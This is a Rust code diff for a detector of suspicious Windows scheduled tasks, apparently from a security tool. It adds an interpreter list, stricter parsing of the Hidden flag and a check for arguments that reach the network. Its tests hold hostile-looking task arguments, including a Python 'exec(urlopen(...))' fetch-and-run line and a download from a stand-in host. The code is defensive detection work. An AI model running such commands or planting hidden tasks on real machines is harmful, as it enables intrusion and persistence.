@@ -61,10 +61,18 @@ fn program(command: &str) -> &str {
     c.split_whitespace().next().unwrap_or(c)
 }
 
+/// Interpreters that run whatever their arguments say, besides the Windows LOLBins.
+const INTERPRETERS: &[&str] = &[
+    "cmd", "python", "pythonw", "py", "pyw", "node", "bash", "sh", "wsl", "perl", "ruby", "php",
+    "java", "javaw", "conhost", "forfiles",
+];
+
 fn is_shell(program: &str) -> bool {
     let b = basename(program);
     let b = b.strip_suffix(".exe").unwrap_or(&b);
-    b == "cmd" || LOLBINS.iter().any(|l| l.strip_suffix(".exe") == Some(b))
+    INTERPRETERS.contains(&b)
+        || b.starts_with("python")
+        || LOLBINS.iter().any(|l| l.strip_suffix(".exe") == Some(b))
 }
 
 pub(super) fn detect(f: &mut Facts<'_>, cmds: &[(String, String)]) {
@@ -127,7 +135,9 @@ pub(super) fn detect(f: &mut Facts<'_>, cmds: &[(String, String)]) {
                 f.put_text("proc.task_command", action, p.clone());
             }
         }
-        if xml.contains("<Hidden>true</Hidden>") {
+        let hidden =
+            xml_value(xml, "Hidden").is_some_and(|h| h.eq_ignore_ascii_case("true") || h == "1");
+        if hidden {
             f.set_flag("proc.task_hidden", true, p.clone());
         }
     }
@@ -166,13 +176,18 @@ pub(super) fn detect(f: &mut Facts<'_>, cmds: &[(String, String)]) {
     let shell = is_shell(prog);
     f.set_flag("proc.task_shell", shell, p.clone());
     let lp = prog.to_ascii_lowercase();
+    let lc = command.to_ascii_lowercase();
+    // Arguments that fetch or reach elsewhere: not what an installed program's own task
+    // passes it.
+    let reaches_out = lc.contains("http://") || lc.contains("https://") || lc.contains("\\\\");
     let program_files = (lp.starts_with("c:\\program files\\")
         || lp.starts_with("c:\\program files (x86)\\")
         || lp.starts_with("%programfiles%\\")
         || lp.starts_with("%programfiles(x86)%\\"))
         && !lp.contains("..")
         && !shell
-        && !writable;
+        && !writable
+        && !reaches_out;
     f.set_flag("proc.task_program_files", program_files, p);
 }
 
@@ -376,6 +391,42 @@ mod tests {
                     "WS-FIN-007$",
                     "\\VendorUpdate",
                     &task_xml("C:\\Program Files\\..\\Windows\\Tasks\\u.exe", None, false),
+                )],
+            ),
+            (
+                "an interpreter installed under Program Files",
+                vec![created(
+                    "S-1-5-18",
+                    "WS-FIN-007$",
+                    "\\VendorUpdate",
+                    &task_xml(
+                        "C:\\Program Files\\Python312\\python.exe",
+                        Some("-c exec(urlopen('x'))"),
+                        false,
+                    ),
+                )],
+            ),
+            (
+                "an installed program told to fetch from the web",
+                vec![created(
+                    "S-1-5-18",
+                    "WS-FIN-007$",
+                    "\\VendorUpdate",
+                    &task_xml(
+                        "C:\\Program Files\\Vendor\\u.exe",
+                        Some("--from https://x.example/p.bin"),
+                        false,
+                    ),
+                )],
+            ),
+            (
+                "hidden, written as 1",
+                vec![created(
+                    "S-1-5-18",
+                    "WS-FIN-007$",
+                    "\\VendorUpdate",
+                    &task_xml("C:\\Program Files\\Vendor\\u.exe", None, false)
+                        .replace("<Hidden>false</Hidden>", "<Hidden>1</Hidden>"),
                 )],
             ),
             (
